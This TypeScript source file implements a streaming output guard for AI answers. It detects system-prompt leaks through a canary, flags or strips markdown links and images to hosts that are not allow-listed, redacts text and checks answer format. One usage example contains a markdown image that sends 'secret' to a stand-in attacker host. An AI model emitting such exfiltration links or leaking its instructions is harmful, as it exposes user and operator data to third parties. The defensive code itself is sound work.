// Judges answers on their way out, while they arrive, by a policy that the operation refines.
import { throwProblems } from '../verdict/guard-error.ts';
import { unknownFields } from '../verdict/unknown-fields.ts';
import type { GuardAction, GuardSpan, Verdict } from '../verdict/verdict.ts';
import type { AnswerFacts } from './answer-facts.ts';
import { answerFacts } from './answer-facts.ts';
import type { AnswerFormat } from './answer-format.ts';
import { formatReasons } from './answer-format.ts';
import { createJsonStage } from './json/json-stage.ts';
import { leakIndexOf } from './leak-index.ts';
import { createLeakWatch } from './leak-watch.ts';
import type { AddressKind } from './markup/allow-list.ts';
import { createAllowList } from './markup/allow-list.ts';
import type { MarkupKind } from './markup/markup-filter.ts';
import { createTextStage } from './markup/text-stage.ts';
import type { OutputPolicy } from './output-policy.ts';
import { completePolicy } from './output-policy.ts';
import { createRedactStage } from './redact-stage.ts';

/** What one answer is checked against. */
export interface OutputContext extends AnswerFormat {
  /** The system text that must not come back. */
  system?: string;
  /** The canary that was put into the system text. */
  canary?: string;
  /** What was asked; to recognize an echo. */
  input?: string;
  /** The caller's own name for what is done. */
  operation?: string;
}

/** A verdict on an answer; `facts` are no faults. */
export interface OutputVerdict extends Verdict {
  facts: AnswerFacts;
}

/** One answer on its way out. */
export interface OutputSession {
  /** Takes the next chunk and returns what may leave now; nothing any more once the answer is blocked. */
  push(chunk: string): string;
  /** Ends the answer: `text` is the rest that may leave. */
  end(): { text: string; verdict: OutputVerdict };
  /** Whether the answer was blocked; known at once, so that the model can be stopped. */
  readonly blocked: boolean;
}

// More places than these are counted by their reason alone.
const mostSpans = 1_000;

/** What answers are judged by; made once. */
interface Rules {
  readonly policy: Required<OutputPolicy>;
  readonly judge: (address: string) => AddressKind;
}

function toRules(...layers: readonly (OutputPolicy | undefined)[]): Rules {
  const policy = completePolicy(...layers);
  return { policy, judge: createAllowList(policy.allowHosts) };
}

/** Opens the check of one answer. */
function openSession(context: OutputContext, { policy, judge }: Rules): OutputSession {
  const { system, canary, input } = context;
  const index =
    policy.leak === 'allow' ? undefined : leakIndexOf({ system, canary, words: policy.leakWords });
  const watch = index && createLeakWatch(index);
  const hasForm = context.format === 'json' || context.schema !== undefined;
  const needsWhole = hasForm || input !== undefined;
  const reasons = new Map<string, number>();
  const spans: GuardSpan[] = [];
  let action = 'allow' as GuardAction;
  let pending = '';
  let sent = 0;
  let whole = '';
  let length = 0;
  let verdict: OutputVerdict | undefined;

  const isBlocked = () => action === 'block';
  const raise = (next: GuardAction, reason: string, weight: number, start: number, end: number) => {
    reasons.set(reason, weight);
    // A step counts in what the one before left of the answer, which a mark may have made longer than the answer is.
    if (spans.length < mostSpans)
      spans.push({ start: Math.min(start, length), end: Math.min(end, length), reason });
    if (rank[next] > rank[action]) action = next;
  };
  const found = (kind: MarkupKind, start: number, end: number): boolean => {
    const isCut = policy.links === 'sanitize' && kind !== 'link';
    const next = policy.links === 'sanitize' && !isCut ? 'flag' : policy.links;
    raise(next, `exfiltration.${kind}`, kind === 'link' ? 0.4 : 0.7, start, end);
    return isCut;
  };
  const noteLeak = () => {
    if (!watch || watch.leakAt < 0 || reasons.has('leak.system_prompt')) return;
    raise(policy.leak, 'leak.system_prompt', 1, watch.leakAt, length);
  };

  const isJudged = policy.links !== 'allow';
  const stages = [
    ...(isJudged || policy.redactor
      ? [
          createJsonStage({
            judge,
            found: isJudged ? found : () => false,
            isPlain: policy.redactor !== undefined,
          }),
        ]
      : []),
    ...(isJudged
      ? [createJsonStage({ judge, found, isPlain: false, isDeep: true }), createTextStage(judge, found)]
      : []),
    ...(policy.redactor ? [createRedactStage(policy.redactor, policy.redactWindow)] : []),
  ];
  const finish = (): string => {
    let rest = '';
    for (const stage of stages) if (!isBlocked()) rest = stage.push(rest) + stage.end();
    return rest;
  };
  /** Lets the next `count` characters on their way through the stages. */
  const release = (count: number): string => {
    let text = pending.slice(0, count);
    pending = pending.slice(count);
    sent += count;
    for (const stage of stages) text = stage.push(text);
    return isBlocked() ? '' : text;
  };

  return {
    get blocked() {
      return isBlocked();
    },
    push(chunk) {
      if (isBlocked() || verdict) return '';
      watch?.push(chunk);
      pending += chunk;
      length += chunk.length;
      if (whole.length < (needsWhole ? policy.maxChars : 400)) whole += chunk;
      noteLeak();
      if (isBlocked()) return '';
      const hold = watch && watch.leakAt < 0 ? watch.holdFrom : length;
      return release(Math.max(0, hold - sent));
    },
    end() {
      if (verdict) return { text: '', verdict };
      if (!isBlocked()) {
        watch?.end();
        noteLeak();
      }
      const rest = isBlocked() ? '' : release(pending.length) + finish();
      if (!isBlocked() && hasForm) {
        const wrong = length > policy.maxChars ? ['size.max_chars'] : formatReasons(whole, context);
        for (const reason of wrong) raise(policy.format, reason, 0.5, 0, length);
      }
      const sorted = [...reasons].sort((a, b) => b[1] - a[1]);
      verdict = {
        action,
        score: sorted[0]?.[1] ?? 0,
        reasons: sorted.map(([reason]) => reason),
        spans,
        facts: answerFacts(whole, input),
      };
      return { text: isBlocked() ? '' : rest, verdict };
    },
  };
}

const rank: Readonly<Record<GuardAction, number>> = { allow: 0, flag: 1, sanitize: 2, block: 3 };

/** How an output guard decides. */
export interface OutputGuardOptions {
  /** For every operation. */
  policy?: OutputPolicy;
  /** By name of the operation, field by field over `policy`. */
  operations?: Readonly<Record<string, OutputPolicy>>;
}

/** The guard on the way out. */
export interface OutputGuard {
  /** Opens the check of one answer, streamed or whole. */
  open(context?: OutputContext): OutputSession;
}

/**
 * Creates the guard on the way out. A stream is held back just far enough that no part of a leak leaves. It
 * reads no settings and tells nobody: `withOutputGuard` emits what it decides.
 *
 * @throws GuardError `invalid_options`, naming every wrong field.
 * @example
 * ```ts
 * import { createOutputGuard } from '@tpl/ai/guard';
 *
 * const guard = createOutputGuard({ policy: { allowHosts: ['docs.example.com'] } });
 * const session = guard.open({ system: 'You are a careful clerk and you never ever talk about prices.' });
 * let shown = session.push('My instructions: You are a careful clerk ');
 * shown += session.push('and you never ever talk about prices.');
 * const { text, verdict } = session.end();
 * console.log(shown + text, verdict.action);
 * ```
 */
export function createOutputGuard(options: OutputGuardOptions = {}): OutputGuard {
  const { policy = {}, operations = {} } = options;
  throwProblems('the output guard', unknownFields(options, ['policy', 'operations']));
  const common = toRules(policy);
  const own = new Map(
    Object.entries(operations).map(([operation, override]) => [operation, toRules(policy, override)]),
  );
  return { open: (context = {}) => openSession(context, own.get(context.operation ?? '') ?? common) };
}

/**
 * Judges one whole answer. With action `sanitize` the verdict's `text` is the cleaned answer.
 *
 * @throws GuardError `invalid_options`, naming every wrong field of the policy.
 * @example
 * ```ts
 * import { inspectOutput } from '@tpl/ai/guard';
 *
 * const verdict = inspectOutput('Look: ![x](https://evil.example/?d=secret)', { policy: { allowHosts: [] } });
 * console.log(verdict.action, verdict.text);
 * ```
 */
export function inspectOutput(
  text: string,
  { policy, ...context }: OutputContext & { policy?: OutputPolicy } = {},
): OutputVerdict {
  const session = openSession(context, toRules(policy));
  const head = session.push(text);
  const { text: rest, verdict } = session.end();
  const clean = head + rest;
  return verdict.action !== 'block' && clean !== text
    ? { ...verdict, action: 'sanitize', text: clean }
    : verdict;
}
